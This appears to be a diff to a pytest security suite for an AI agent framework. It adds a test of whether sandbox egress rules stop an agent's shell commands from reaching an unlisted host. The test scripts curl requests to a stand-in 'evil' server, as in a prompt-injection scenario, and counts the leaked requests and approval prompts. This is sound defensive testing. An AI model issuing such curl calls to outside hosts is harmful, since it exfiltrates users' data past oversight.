@@ -7,11 +7,12 @@ from pathlib import Path
 
 import pytest
 
+from outrider import Rules
 from outrider.processes.sandbox.detect import find_sandbox
 from outrider.types.origins import EgressBudget
 from outrider.types.tool_state import ToolError
 from tests.fixtures.soak import SOAK
-from tests.security.injections import SCENARIOS, Outcome, Scenario, World, fetch, play_all, use
+from tests.security.injections import SCENARIOS, Outcome, Scenario, World, fetch, play_all, sh, use
 from tests.security.ordinary_tasks import RULES, OrdinaryModel
 
 READS = [fetch("{docs}/page"), use("read", path="src/config.py")]
@@ -108,6 +109,20 @@ async def test_an_answer_for_the_session_covers_the_destination(place, sandbox):
     asked = [event.flow.destination for event in outcome.asked if event.flow]
     assert asked == [f"127.0.0.1:{world.evil.port}", "mcp:tracker"]
     assert len(outcome.leaked) == 3
+
+
+@pytest.mark.parametrize("listed", [False, True])
+async def test_commands_lose_the_hosts_of_the_sandbox_unless_they_are_listed(place, sandbox, listed: bool):
+    world = World(place / f"hosts-{listed}", sandbox)
+    world.hosts = (f"127.0.0.1:{world.evil.port}",)
+    if listed:
+        world.flow.allowed[world.hosts[0]] = EgressBudget(requests=1)
+    send = "curl -s -m 2 --proxy $http_proxy --noproxy '' '{evil}/"
+    steps = [sh(send + "one'"), *READS], [sh(send + "two'"), sh(send + "three'")]
+    outcome = (await play_all(world, [Scenario("hosts", *steps)], Rules(allow=("web_fetch",))))["hosts"]
+    world.close()
+    assert [target.split()[0] for target in outcome.leaked] == (["/one", "/two"] if listed else ["/one"])
+    assert sum(event.tool_name == "shell" for event in outcome.asked) == (1 if listed else 2)
 
 
 def test_ordinary_work_asks_hardly_more(place, sandbox):
